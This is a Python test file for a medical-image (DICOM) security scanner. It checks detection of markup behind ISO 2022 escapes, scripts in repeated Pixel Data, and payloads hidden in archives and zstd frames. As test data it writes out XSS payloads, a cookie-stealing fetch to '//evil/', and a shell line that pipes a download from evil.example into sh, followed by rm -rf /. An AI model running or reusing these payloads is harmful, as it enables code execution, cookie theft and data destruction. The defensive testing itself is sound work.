"""The re-probe of the scanner fixes: markup behind ISO 2022 escape sequences, a script as a repeated
Pixel Data, an archive's own bytes given to YARA and clamd, a tar whose last member is a zip, a
Zstandard file led by a skippable frame, and clinical shorthand taken for event handlers. Each test
failed before the fix it names."""

from __future__ import annotations

import io
import struct
import zipfile
from pathlib import Path

import pytest
from scan_samples import _element, base, ct, encode, quiet, rules, tar_of, zip_bytes
from test_outside_round3_structure import MARKER, small_clamd_running

from pacsguard.scan import signatures
from pacsguard.scan.model import Level
from pacsguard.scan.run import scan_all
from pacsguard.scan.scanner import Scanner
from pacsguard.scan.walk import walk
from pacsguard.scan.yara_engine import YaraEngine

ESC = "\x1b(B"  # ISO 2022: designate ASCII to G0 (PS3.5 6.1.2.5.3), a no-op readers drop


def _with_text(tag: int, vr: str, text: str, charset: str = "\\ISO 2022 IR 100") -> bytes:
    def build() -> bytes:
        ds = base()
        ds.SpecificCharacterSet = charset
        ds.add_new(tag, vr, text.encode("latin-1"))
        return encode(ds)
    return quiet(build)


@pytest.mark.parametrize("text", ["<scr" + ESC + "ipt>alert(1)</scr" + ESC + "ipt>",
                                  "<img src=x on" + ESC + "error=alert(1)>",
                                  "<a href=java" + ESC + "script:alert(1)>report</a>",
                                  "<svg\x1b$B/onload=alert(1)>"])
def test_markup_behind_an_iso2022_escape_is_markup(scanner: Scanner, text: str) -> None:
    found = rules(scanner.scan_bytes(_with_text(0x00081030, "LO", text), "x.dcm"))
    assert found.get("structure.markup") == Level.HIGH, found


def test_a_script_behind_an_iso2022_escape_in_a_long_text_is_found(scanner: Scanner) -> None:
    text = "<scr" + ESC + "ipt>fetch('//evil/'+document.cookie)</scr" + ESC + "ipt>"
    found = rules(scanner.scan_bytes(_with_text(0x00204000, "LT", text), "x.dcm"))
    assert found.get("embedded.script") == Level.HIGH, found


def test_iso2022_text_without_markup_stays_clean(scanner: Scanner) -> None:
    """Japanese names switch to JIS X 0208 and back (PS3.5 H.3.1): escapes and no markup."""
    name = b"Yamada^Tarou=\x1b$B;3ED\x1b(B^\x1b$BB@O:\x1b(B"
    assert signatures.unescaped(name) == b"Yamada^Tarou=;3ED^B@O:"
    assert signatures.unescaped(b"no escape") == b"no escape"

    def build() -> bytes:
        ds = base()
        ds.SpecificCharacterSet = "\\ISO 2022 IR 87"
        ds.add_new(0x00100010, "PN", name)
        ds.add_new(0x00204000, "LT", b"History: \x1b$B;3ED\x1b(B <knee pain onset=2wk>")
        return encode(ds)
    report = scanner.scan_bytes(quiet(build), "x.dcm")
    assert not [f for f in report.findings if f.level > Level.INFO], report.findings


SHELL = b"#!/bin/sh\ncurl http://evil.example/x | sh\nrm -rf / --no-preserve-root\n"


def test_a_script_as_a_repeated_pixel_data_is_found(scanner: Scanner, clean_ct: bytes) -> None:
    """pydicom reads the last (7FE0,0010): a second one is searched as any other value; the image's
    own stays exempt (no script search in pixel data)."""
    script = SHELL + b"\x00" * (len(SHELL) % 2)
    found = rules(scanner.scan_bytes(clean_ct + _element(0x7FE0, 0x0010, b"OB", script), "x.dcm"))
    assert found.get("embedded.script") == Level.HIGH, found
    assert "embedded.script" not in rules(scanner.scan_bytes(clean_ct, "x.dcm"))


def test_a_script_after_a_repeated_pixel_data_stop_is_found(scanner: Scanner, clean_ct: bytes) -> None:
    """A second, encapsulated Pixel Data whose fragment runs past the file: the walk stops there, and
    the bytes after are searched for scripts (only a stop in the first Pixel Data is the image's)."""
    item = struct.Struct("<HHI")
    tail = struct.pack("<HH2sHI", 0x7FE0, 0x0010, b"OB", 0, 0xFFFFFFFF) + item.pack(0xFFFE, 0xE000, 0) \
        + item.pack(0xFFFE, 0xE000, 1 << 30) + SHELL
    found = rules(scanner.scan_bytes(clean_ct + tail, "x.dcm"))
    assert found.get("polyglot.appended-script") == Level.HIGH, found


@pytest.fixture(scope="module")
def site_yara(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("yara")
    (folder / "site.yar").write_text('rule site_payload { meta: level = "high" strings: $e = "'
                                     + MARKER.decode() + '" condition: $e }\n')
    return folder


def _archives(folder: Path) -> dict[str, Path]:
    """A clean CT in a zip whose comment holds the payload, and in a tar with the payload after
    its end-of-archive blocks: bytes that belong to no member."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("S1/IM1", quiet(ct))
        archive.comment = b"x " + MARKER
    paths = {"zip": folder / "study.zip", "tar": folder / "study.tar"}
    paths["zip"].write_bytes(out.getvalue())
    paths["tar"].write_bytes(tar_of({"S1/IM1": quiet(ct)}) + MARKER)
    return paths


def _container_rules(scanner: Scanner, path: Path) -> dict[str, Level]:
    reports = list(scan_all(walk([path]), scanner))
    # The tar's bytes after its end are also a member of their own (test_after_the_tar.py).
    own = (str(path), f"{path}!(data after the tar)")
    assert all(not rules(r) or r.path in own for r in reports), [(r.path, rules(r)) for r in reports]
    return rules(reports[-1])


def test_an_archives_own_bytes_go_through_yara_and_clamd(tmp_path: Path, site_yara: Path) -> None:
    paths = _archives(tmp_path)
    (tmp_path / "clamd").mkdir()
    with small_clamd_running(tmp_path / "clamd", alert_exceeds_max=True) as (unix, _):
        scanner = Scanner(yara=YaraEngine.compile([site_yara]), clamd=unix)
        for path in paths.values():
            found = _container_rules(scanner, path)
            assert found.get("clamav.found") == Level.HIGH and found.get("yara.site_payload") == Level.HIGH, found


def test_a_clean_archive_is_clean_through_the_engines(tmp_path: Path, site_yara: Path, clean_ct: bytes) -> None:
    scanner = Scanner(yara=YaraEngine.compile([site_yara]))
    (tmp_path / "a.zip").write_bytes(zip_bytes({"S1/IM1": clean_ct}))
    (tmp_path / "a.tar").write_bytes(tar_of({"S1/IM1": clean_ct}))
    for name in ("a.zip", "a.tar"):
        assert _container_rules(scanner, tmp_path / name) == {}
    # past max_file_size the container is left to its members
    small = Scanner(yara=YaraEngine.compile([site_yara]), max_file_size=100)
    assert small.scan_container(zip_bytes({"a": MARKER})) == []


def test_a_tar_whose_last_member_is_a_zip_is_no_polyglot(tmp_path: Path, clean_ct: bytes, scanner: Scanner) -> None:
    reports_zip = zip_bytes({"report.txt": b"Report: no acute findings.\n"})
    path = tmp_path / "export.tar"
    path.write_bytes(tar_of({"DICOM/IM1": clean_ct, "reports.zip": reports_zip}))
    found = {r.path: rules(r) for r in scan_all(walk([path]), scanner)}
    assert "archive.polyglot" not in found[str(path)], found
    assert f"{path}!reports.zip!report.txt" in found
    # a zip after the tar's end is still one
    path.write_bytes(tar_of({"DICOM/IM1": clean_ct}) + reports_zip)
    found = {r.path: rules(r) for r in scan_all(walk([path]), scanner)}
    assert found[str(path)].get("archive.polyglot") == Level.HIGH, found


@pytest.mark.parametrize("magic", [0x184D2A50, 0x184D2A5F])
def test_a_zstd_file_led_by_a_skippable_frame_is_an_unopened_archive(scanner: Scanner, magic: int) -> None:
    """RFC 8878 3.1.2: zstd -d skips the frame and writes what follows."""
    frame = b"\x28\xb5\x2f\xfd\x04\x58" + bytes(64)
    data = struct.pack("<II", magic, 4) + b"abcd" + frame
    assert rules(scanner.scan_bytes(data, "study.zst")).get("structure.unopened-archive") == Level.MEDIUM
    assert "structure.unopened-archive" not in rules(scanner.scan_bytes(struct.pack("<I", 0x184D2A60) + frame, "x"))


@pytest.mark.parametrize("text", ["HX <knee pain onset=2wk>", "<pain onset=acute>", "<CT chest online=Y>",
                                  "<Dx oncology=yes>", "<Dx oncologic=yes>", "<f/u ongoing=1>", "<ok only=1>",
                                  "<ICU oncall=Dr A>", "<rx onward=yes>", "<pt onsite=Y>"])
def test_clinical_shorthand_is_no_markup(scanner: Scanner, text: str) -> None:
    assert signatures.markup(text.encode()) is None
    found = rules(scanner.scan_bytes(_with_text(0x00081030, "LO", text, "ISO_IR 100"), "x.dcm"))
    assert "structure.markup" not in found, found


@pytest.mark.parametrize("text", ["<x onfocusin=alert(1)>", "<div onanimationend=alert(1)>",
                                  "<p ontransitionend=alert(1)>", "<body ononline=alert(1)>",
                                  "<a onset=1 onclick=alert(1)>", "<b x='1' onpointerup = alert(1)>"])
def test_unknown_event_handlers_are_still_markup(scanner: Scanner, text: str) -> None:
    assert signatures.markup(text.encode()) is not None
    found = rules(scanner.scan_bytes(_with_text(0x00081030, "LO", text, "ISO_IR 100"), "x.dcm"))
    assert found.get("structure.markup") == Level.HIGH, found
